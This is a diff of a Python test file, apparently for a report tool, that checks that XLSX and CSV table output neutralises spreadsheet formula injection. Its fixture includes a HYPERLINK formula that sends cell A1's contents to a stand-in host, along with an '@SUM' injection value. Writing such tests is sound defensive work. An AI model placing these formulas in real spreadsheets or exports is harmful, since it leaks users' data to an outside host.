@@ -11,10 +11,13 @@ HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"Click for full text")'
 
 
 def _table():
-    return SimpleNamespace(name="records-by-source", title="Records per source",
-                           columns=["Source", "Records"],
-                           rows=[[HOSTILE, "6"], ["@SUM(1+1)", "-3"], ["MEDLINE", "2.50"]],
-                           note="")
+    return SimpleNamespace(
+        name="records-by-source",
+        title="Records per source",
+        columns=["Source", "Records"],
+        rows=[[HOSTILE, "6"], ["@SUM(1+1)", "-3"], ["MEDLINE", "2.50"]],
+        note="",
+    )
 
 
 def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers():
@@ -33,8 +36,7 @@ def test_csv_tables_are_neutralised(tmp_path, monkeypatch):
     import evidencekit.plugins.reporters._report_content as content
     from evidencekit.plugins.reporters.report import TablesReport
 
-    monkeypatch.setattr(content, "build",
-                        lambda bundle: [SimpleNamespace(tables=[_table()])])
+    monkeypatch.setattr(content, "build", lambda bundle: [SimpleNamespace(tables=[_table()])])
     paths = TablesReport().render({}, tmp_path, {"formats": ["csv"]})
     assert [p.name for p in paths] == ["table-records-by-source.csv"]
     text = paths[0].read_text("utf-8")
